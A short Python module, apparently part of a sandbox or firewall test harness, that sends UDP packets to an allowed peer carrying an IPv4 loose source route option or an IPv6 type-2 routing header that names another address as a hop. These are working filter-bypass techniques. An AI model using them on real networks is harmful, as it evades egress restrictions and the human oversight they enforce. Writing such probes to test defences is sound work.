"""Packets for an allowed peer that name another one as a hop on the way."""
import socket
import struct

from attack import SENT, peer

IP_RETOPTS, IPV6_RTHDR = 7, 57
# RFC 791 §3.1: loose source route; RFC 6275 §6.4: routing header of type 2.
LOOSE, BY_HOME = 131, 2


def loose(by):
    return struct.pack("BBB", LOOSE, 7, 4) + socket.inet_aton(by) + b"\0"


def home(by):
    """The kernel sends to this address, and puts the peer in its place."""
    return struct.pack("=BBBBI", 0, 2, BY_HOME, 1, 0) + socket.inet_pton(socket.AF_INET6, by)


def option(by, to):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, loose(by))
        sock.sendto(SENT, peer(to))


def beside_the_data(by, to):
    """The same option with one message only, which asks for no change of the socket."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendmsg([SENT], [(socket.IPPROTO_IP, IP_RETOPTS, loose(by))], 0, peer(to))


def header(by, to):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, home(by))
        sock.sendto(SENT, peer(to))


def header_beside_the_data(by, to):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.sendmsg([SENT], [(socket.IPPROTO_IPV6, IPV6_RTHDR, home(by))], 0, peer(to))
